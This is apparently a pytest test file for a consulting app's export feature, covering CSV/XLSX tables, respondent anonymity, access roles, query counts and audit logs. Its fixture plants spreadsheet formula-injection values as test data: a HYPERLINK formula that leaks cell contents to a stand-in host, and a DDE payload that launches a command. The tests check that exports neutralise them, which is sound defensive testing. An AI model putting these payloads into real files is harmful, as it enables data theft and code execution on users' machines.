"""Exports of a client or a workspace (DESIGN §9): tables, anonymity, who may, query count."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from factories import (
    cx_maturity,
    make_assessment,
    make_client_staff,
    make_member,
    make_organization,
    make_respondent,
    make_workspace,
)
from sqlalchemy import event, select

from cxmaturity.services import exports
from cxmaturity.services.access import load_actor
from cxmaturity.services.errors import Forbidden, InvalidInput, NotVisible
from cxmaturity.services.snapshots import refresh_snapshot
from cxmaturity.store.database import transaction
from cxmaturity.store.models import Action, AuditEntry, KpiValue, Target

QUESTIONNAIRE = cx_maturity()
STRATEGY = [q.id for q in QUESTIONNAIRE.dimension("strategy").questions]
FIRST = STRATEGY[0]


def everything(level):
    return dict.fromkeys(QUESTIONNAIRE.questions, level)


def add_client(session, workspace, catalogue, name, anonymity="confidential", levels=(2, 3, 3)):
    """A client with a closed assessment of 2026-Q4 answered by len(levels) respondents."""
    organization = make_organization(session, name=name, workspace=workspace)
    assessment = make_assessment(session, organization, status="closed")
    assessment.anonymity = anonymity
    for number, level in enumerate(levels, start=1):
        make_respondent(
            session,
            assessment,
            name=f"Person {number} of {name}",
            answers=everything(level),
            comments={FIRST: f"comment {number}"},
            submitted=True,
        )
    session.flush()
    refresh_snapshot(session, catalogue, assessment)
    return organization, assessment


@pytest.fixture
def world(sessions, catalogue):
    with transaction(sessions) as session:
        workspace = make_workspace(session)
        named, _ = add_client(session, workspace, catalogue, "Named AG", "named")
        hostile, _ = add_client(session, workspace, catalogue, '=HYPERLINK("http://x?"&A1)')
        anonymous, _ = add_client(session, workspace, catalogue, "Anonym KG", "anonymous")
        later = make_assessment(session, anonymous, period="2027-Q1")
        later.anonymity = "anonymous"
        make_respondent(session, later, "Eva")
        session.add_all(
            [
                Target(
                    organization_id=named.id,
                    questionnaire_id="cx-maturity",
                    dimension_id="strategy",
                    target_level=4,
                    baseline_score="8/3",
                    baseline_period="2026-Q4",
                ),
                Action(
                    organization_id=named.id,
                    questionnaire_id="cx-maturity",
                    dimension_id="strategy",
                    title="@SUM(1+1)",
                    owner="+cmd|' /C calc'!A0",
                    opened_period="2026-Q4",
                ),
                KpiValue(
                    organization_id=named.id,
                    period="2026-Q4",
                    kpi="nps",
                    inputs="{}",
                    value="85/2",
                    value_number=42.5,
                    sample_size=40,
                ),
            ]
        )
        consultant = make_member(session, workspace, role="consultant")
        owner = make_member(session, workspace, role="owner")
        viewer = make_member(session, workspace, role="viewer")
        limited = make_member(session, workspace, role="consultant", listed_clients=[named])
        staff = make_client_staff(session, named, "client_admin")
        stranger = make_member(session, make_workspace(session), role="owner")
    actors = {
        who: load_actor(sessions, user.id)
        for who, user in [
            ("consultant", consultant),
            ("owner", owner),
            ("viewer", viewer),
            ("limited", limited),
            ("staff", staff),
            ("stranger", stranger),
        ]
    }
    return {"slug": workspace.slug, "named": named.id, "hostile": hostile.id,
            "anonymous": anonymous.id, **actors}  # fmt: skip


def csv_rows(sessions, catalogue, who, slug, table, client_id=None):
    out = io.BytesIO()
    exports.write_table_csv(sessions, catalogue, who, slug, table, out, client_id)
    data = out.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def workbook(sessions, catalogue, who, slug, client_id=None):
    out = io.BytesIO()
    exports.write_workspace_xlsx(sessions, catalogue, who, slug, out, client_id)
    return openpyxl.load_workbook(io.BytesIO(out.getvalue()))


def sheet_rows(book, name):
    rows = list(book[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_workspace_xlsx_has_every_table_and_scores_as_numbers(sessions, catalogue, world):
    book = workbook(sessions, catalogue, world["consultant"], world["slug"])
    assert book.sheetnames == list(exports.TABLE_NAMES)
    scores = [r for r in sheet_rows(book, "dimension_scores") if r["client_id"] == world["named"]]
    assert [r["dimension"] for r in scores] == [d.id for d in QUESTIONNAIRE.dimensions]
    strategy = scores[0]
    # (2 + 3 + 3) / 3 = 2.666…: the exact value, and 2.6 as shown (rounded down, §4.8).
    assert strategy["score"] == pytest.approx(8 / 3)
    assert strategy["score_shown"] == 2.6
    assert strategy["level"] == 3
    assert strategy["respondents"] == 3
    assert strategy["spread"] == 1
    assert strategy["disagreement"] is False
    assessments = {r["client_id"]: r for r in sheet_rows(book, "assessments")}
    assert assessments[world["named"]]["submitted"] == 3
    assert assessments[world["named"]]["overall_score_shown"] == 2.6
    kpi = sheet_rows(book, "kpis")[0]
    assert (kpi["value"], kpi["value_shown"], kpi["sample_size"]) == (42.5, 42.5, 40)


def test_hostile_text_is_prefixed_in_csv_and_xlsx(sessions, catalogue, world):
    slug, consultant = world["slug"], world["consultant"]
    rows = csv_rows(sessions, catalogue, consultant, slug, "assessments")
    assert '\'=HYPERLINK("http://x?"&A1)' in {r["client"] for r in rows}
    action = csv_rows(sessions, catalogue, consultant, slug, "actions")[0]
    assert (action["title"], action["owner"]) == ("'@SUM(1+1)", "'+cmd|' /C calc'!A0")
    book = workbook(sessions, catalogue, consultant, slug)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_named_answers_carry_names_groups_and_comments(sessions, catalogue, world):
    rows = csv_rows(
        sessions, catalogue, world["consultant"], world["slug"], "answers", world["named"]
    )
    assert len(rows) == 3 * len(QUESTIONNAIRE.questions)
    first = [r for r in rows if r["question"] == FIRST]
    assert [r["respondent"] for r in first] == [f"Person {n} of Named AG" for n in (1, 2, 3)]
    assert [r["comment"] for r in first] == ["comment 1", "comment 2", "comment 3"]
    assert {r["dimension"] for r in first} == {"strategy"}


def test_confidential_answers_carry_aliases_and_no_name_or_comment(sessions, catalogue, world):
    rows = csv_rows(
        sessions, catalogue, world["consultant"], world["slug"], "answers", world["hostile"]
    )
    assert {r["respondent"] for r in rows} == {"R1", "R2", "R3"}
    assert [r["level"] for r in rows if r["respondent"] == "R1"][:1] == ["2"]
    assert {r["comment"] for r in rows} == {""}
    assert {r["group"] for r in rows} == {""}
    assert "Person" not in str(rows)


def test_anonymous_answers_name_nobody_and_cannot_be_joined_to_a_person(sessions, catalogue, world):
    rows = csv_rows(
        sessions, catalogue, world["consultant"], world["slug"], "answers", world["anonymous"]
    )
    assert {r["respondent"] for r in rows} == {""}
    assert {r["comment"] for r in rows} == {""}
    # Sorted by question, then level: the order of the people is gone.
    first = [r["level"] for r in rows if r["question"] == FIRST]
    assert first == ["2", "3", "3"]
    order = [r["question"] for r in rows]
    assert order == sorted(order, key=list(QUESTIONNAIRE.questions).index)


def test_anonymous_answers_of_a_question_fewer_than_three_chose_are_left_out(sessions, catalogue):
    with transaction(sessions) as session:
        workspace = make_workspace(session)
        add_client(session, workspace, catalogue, "Zwei", "anonymous", (2, 4))
    rows = csv_rows(sessions, catalogue, exports.OPERATOR, workspace.slug, "answers")
    assert rows == []
    participation = csv_rows(sessions, catalogue, exports.OPERATOR, workspace.slug, "participation")
    assert participation == []
    assessments = csv_rows(sessions, catalogue, exports.OPERATOR, workspace.slug, "assessments")
    assert (assessments[0]["invited"], assessments[0]["submitted"]) == ("2", "2")


def test_participation_lists_people_except_in_anonymous_assessments(sessions, catalogue, world):
    rows = csv_rows(sessions, catalogue, world["owner"], world["slug"], "participation")
    assert {r["client_id"] for r in rows} == {str(world["named"]), str(world["hostile"])}
    assert {r["stage"] for r in rows} == {"submitted"}
    assert "Person 1 of Named AG" in {r["name"] for r in rows}
    assert "Eva" not in {r["name"] for r in rows}


def test_a_client_export_holds_that_client_only(sessions, catalogue, world):
    book = workbook(sessions, catalogue, world["consultant"], world["slug"], world["named"])
    for name in ("assessments", "dimension_scores", "answers", "targets", "actions", "kpis"):
        assert {r["client_id"] for r in sheet_rows(book, name)} == {world["named"]}, name


def test_a_limited_consultants_workspace_export_holds_only_their_clients(
    sessions, catalogue, world
):
    rows = csv_rows(sessions, catalogue, world["limited"], world["slug"], "assessments")
    assert {r["client_id"] for r in rows} == {str(world["named"])}
    with pytest.raises(NotVisible):
        csv_rows(sessions, catalogue, world["limited"], world["slug"], "answers", world["hostile"])


@pytest.mark.parametrize("who", ["stranger", "staff", None])
def test_nobody_outside_the_workspace_sees_an_export(sessions, catalogue, world, who):
    actor = world[who] if who else None
    with pytest.raises(NotVisible):
        workbook(sessions, catalogue, actor, world["slug"])
    if who != "staff":
        with pytest.raises(NotVisible):
            workbook(sessions, catalogue, actor, world["slug"], world["named"])


def test_a_viewer_and_client_staff_may_not_export(sessions, catalogue, world):
    with pytest.raises(Forbidden):
        workbook(sessions, catalogue, world["viewer"], world["slug"])
    with pytest.raises(Forbidden):
        workbook(sessions, catalogue, world["staff"], world["slug"], world["named"])
    with pytest.raises(Forbidden):
        exports.export_page(sessions, world["viewer"], world["slug"])


def test_a_client_of_another_workspace_is_not_visible(sessions, catalogue, world):
    with transaction(sessions) as session:
        other = make_organization(session, name="Fremd AG")
    with pytest.raises(NotVisible):
        workbook(sessions, catalogue, world["owner"], world["slug"], other.id)
    with pytest.raises(InvalidInput):
        workbook(sessions, catalogue, exports.OPERATOR, world["slug"], other.id)


def test_the_operator_is_told_of_an_unknown_workspace_or_table(sessions, catalogue):
    with pytest.raises(InvalidInput, match="no workspace"):
        workbook(sessions, catalogue, exports.OPERATOR, "nowhere")
    with pytest.raises(InvalidInput, match="no table"):
        csv_rows(sessions, catalogue, exports.OPERATOR, "nowhere", "people")


def test_the_csv_zip_has_one_file_per_table(sessions, catalogue, world):
    out = io.BytesIO()
    exports.write_csv_zip(sessions, catalogue, world["consultant"], world["slug"], out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        assert archive.namelist() == [f"{name}.csv" for name in exports.TABLE_NAMES]
        assert archive.read("targets.csv").startswith(b"\xef\xbb\xbftarget_id,")


def count_queries(sessions, work) -> int:
    engine = sessions.kw["bind"]
    statements = []

    def seen(conn, cursor, statement, *args):
        if statement.lstrip().upper().startswith(("SELECT", "WITH")):
            statements.append(statement)

    event.listen(engine, "before_cursor_execute", seen)
    try:
        work()
    finally:
        event.remove(engine, "before_cursor_execute", seen)
    return len(statements)


def test_the_number_of_queries_does_not_grow_with_the_clients(sessions, catalogue, world):
    def export():
        workbook(sessions, catalogue, world["owner"], world["slug"])

    before = count_queries(sessions, export)
    with transaction(sessions) as session:
        from cxmaturity.store.queries.accounts import workspace_by_slug

        workspace = workspace_by_slug(session, world["slug"])
        for number in range(5):
            add_client(session, workspace, catalogue, f"Mehr {number}", "named")
    assert count_queries(sessions, export) == before
    assert before <= len(exports.TABLE_NAMES) + 4


def test_decimal_cells_are_written_as_numbers_in_csv(sessions, catalogue, world):
    rows = csv_rows(sessions, catalogue, world["owner"], world["slug"], "targets")
    assert (rows[0]["baseline_score_shown"], rows[0]["target_level"]) == ("2.6", "4")
    assert Decimal(rows[0]["baseline_score"]) == pytest.approx(Decimal(8) / 3)


def audit_lines(sessions):
    with transaction(sessions) as session:
        return [
            (entry.action, entry.actor_email, entry.object_type, entry.object_id, entry.detail)
            for entry in session.scalars(select(AuditEntry).order_by(AuditEntry.id))
        ]


def test_every_export_is_in_the_audit_log_and_a_refused_one_is_not(sessions, catalogue, world):
    consultant = world["consultant"]
    workbook(sessions, catalogue, consultant, world["slug"])
    csv_rows(sessions, catalogue, consultant, world["slug"], "answers", world["named"])
    csv_rows(sessions, catalogue, exports.OPERATOR, world["slug"], "kpis")
    with pytest.raises(Forbidden):
        workbook(sessions, catalogue, world["viewer"], world["slug"])
    lines = audit_lines(sessions)
    workspace_id = lines[0][3]
    assert lines == [
        ("exported", consultant.email, "workspace", workspace_id, "XLSX: every table"),
        ("exported", consultant.email, "client", world["named"], "CSV: answers"),
        ("exported", None, "workspace", workspace_id, "CSV: kpis (command line)"),
    ]
